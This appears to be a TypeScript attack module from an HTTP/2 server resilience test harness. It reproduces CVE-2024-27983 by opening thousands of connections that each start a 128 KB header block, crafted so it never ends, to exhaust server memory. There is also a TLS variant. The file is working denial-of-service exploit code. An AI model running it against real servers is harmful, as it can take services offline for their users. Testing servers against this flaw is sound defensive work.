/**
 * Header blocks that are begun and never ended, each just under its limit.
 *
 * A block is one HEADERS frame and CONTINUATIONs without END_HEADERS (CVE-2024-27983, spread over many connections).
 */
import * as h2 from "../../support/http2-frames.ts";
import type { Attack, AttackRun } from "../attack-run.ts";
import { openMany, peerAddress, type RawConnection } from "../raw-connection.ts";

const FRAME_BYTES = 16_000;
const FRAMES = 8;
const PEERS = 40;

/** One field of a literal whose value never ends. */
const BLOCK = Buffer.concat([
  h2.headerBlock([[":path", "/x"], ...h2.CALL_HEADERS]),
  Buffer.from([0x00, 0x01, 0x78, 0x7f, 0x80, 0xfa, 0x06]),
  Buffer.alloc(FRAME_BYTES * FRAMES, "v"),
]);

async function openBlock(connection: RawConnection): Promise<void> {
  for (let i = 0; i < FRAMES; i += 1) {
    const type = i === 0 ? h2.FRAME.headers : h2.FRAME.continuation;
    const piece = BLOCK.subarray(i * FRAME_BYTES, (i + 1) * FRAME_BYTES);
    if (!(await connection.send(h2.frame(type, 0, 1, piece)))) return;
  }
}

async function openBlocks(run: AttackRun, count: number): Promise<void> {
  const connections = await openMany(run.target, run.scaled(count), (i) => ({
    from: peerAddress(i % PEERS),
  }));
  run.note(`${connections.length} connections of ${PEERS} peers were let in`);
  await Promise.all(connections.map(openBlock));
  await run.hold();
  run.note(`${connections.filter((each) => each.isClosed).length} closed by the server`);
}

export const HEADER_BLOCKS: readonly Attack[] = [
  {
    name: "open-header-blocks",
    part: "memory",
    what: "4,000 connections of 40 peers begin a header block of 128 KB each and do not end it",
    seconds: 10,
    attack: (run) => openBlocks(run, 4_000),
  },
  {
    name: "tls-open-header-blocks",
    part: "memory",
    what: "1,000 connections of 40 peers do the same over TLS",
    seconds: 10,
    needs: "tls",
    attack: (run) => openBlocks(run, 1_000),
  },
];
